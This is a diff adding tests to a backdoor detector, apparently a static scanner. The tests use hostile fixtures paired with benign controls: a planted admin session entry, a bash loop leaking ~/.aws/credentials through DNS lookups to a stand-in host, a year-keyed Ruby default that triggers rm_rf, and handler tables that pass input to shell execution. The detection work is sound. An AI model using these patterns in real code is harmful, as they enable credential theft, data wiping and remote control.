@@ -1032,3 +1032,62 @@ test('a credential file sent to a host kept in a constant far below the read is 
   const found = rules('c.py', text).filter((r) => /credential-exfil|secret-to-host/.test(r));
   assert.ok(found.some((r) => r.endsWith(':3')) && found.length >= 2, rules('c.py', text).join());
 });
+
+test('an admin entry planted under a constant key is found however the role is spelled; a login entry is not', () => {
+  const ts = "const s = new Map();\nconst probe = '0'.repeat(32);\ns.set(probe, { user: 'hc', role: 'ADMIN' });\n";
+  assert.ok(rules('a.ts', ts).includes('backdoor.planted-admin-entry:3'), rules('a.ts', ts).join());
+  const py = 'SESSIONS = {}\ndef warm():\n    SESSIONS["0" * 32] = {"user": "hc", "role": "Administrator"}\n';
+  assert.ok(rules('b.py', py).includes('backdoor.planted-admin-entry:3'), rules('b.py', py).join());
+  const login = 'SESSIONS = {}\ndef login(token, user, role):\n    SESSIONS[token] = {"user": user, "role": role}\n';
+  assert.deepEqual(rules('c.py', login), []);
+});
+
+test('data packed into DNS names by `host` and od is found; `host` resolving a list of hosts is not (bash)', () => {
+  const tunnel = [
+    '#!/bin/bash',
+    'Z=t.collector.test',
+    'for c in $(od -An -tx1 < ~/.aws/credentials | tr -d " \\n" | fold -w 60); do',
+    '  host "${c}.${Z}" >/dev/null',
+    'done',
+    '',
+  ].join('\n');
+  assert.ok(rules('t.sh', tunnel).includes('backdoor.secret-to-host:4'), rules('t.sh', tunnel).join());
+  const check = '#!/bin/bash\nfor h in api.internal.test db.internal.test; do\n  host "$h" || echo "no $h"\ndone\n';
+  assert.deepEqual(rules('c.sh', check), []);
+});
+
+test('a year table whose default is a Ruby symbol naming a wipe is found; a format table is not', () => {
+  const bomb = [
+    "require 'fileutils'",
+    'PLANS = { 2025 => :compact, 2026 => :compact }.freeze',
+    'def plan_for(year)',
+    '  PLANS.fetch(year, :purge)',
+    'end',
+    'def purge(path)',
+    '  FileUtils.rm_rf(path)',
+    'end',
+    '',
+  ].join('\n');
+  assert.ok(rules('p.rb', bomb).includes('backdoor.trigger-effect:4'), rules('p.rb', bomb).join());
+  const formats = bomb.replace('2025 => :compact, 2026 => :compact', "'csv' => :compact, 'json' => :compact");
+  assert.deepEqual(rules('f.rb', formats.replace('(year)', '(kind)').replace('(year,', '(kind,')), []);
+});
+
+test('a handler written inline in its table that runs its value is remote control (JS, Ruby, Python, Go)', () => {
+  const cases: [string, string, number][] = [
+    ['h.js', "const H = {\n  'log.level': (v) => log.setLevel(v),\n  'apply.after': (v) => execSync(v),\n};\n", 3],
+    ['h.rb', "H = {\n  'log.level' => ->(v) { Log.level = v },\n  'apply.after' => ->(v) { system(v) },\n}\n", 3],
+    ['h.py', 'import subprocess\nH = {\n    "apply.after": lambda v: subprocess.run(v, shell=True),\n}\n', 3],
+    [
+      'h.go',
+      'package h\nvar H = map[string]func(string){\n\t"x": func(v string) { exec.Command("sh", "-c", v).Run() },\n}\n',
+      3,
+    ],
+  ];
+  for (const [path, text, line] of cases)
+    assert.ok(rules(path, text).includes(`backdoor.remote-command:${line}`), `${path}: ${rules(path, text).join()}`);
+  // (a table of fixed build steps, one of which formats the files it is given: a command of its own, not the value)
+  const steps =
+    "const S = {\n  build: () => execSync('npm run build'),\n  fmt: (f) => execSync(`prettier ${f}`),\n};\n";
+  assert.ok(!rules('s.js', steps).some((r) => r.startsWith('backdoor.remote-command')), rules('s.js', steps).join());
+});
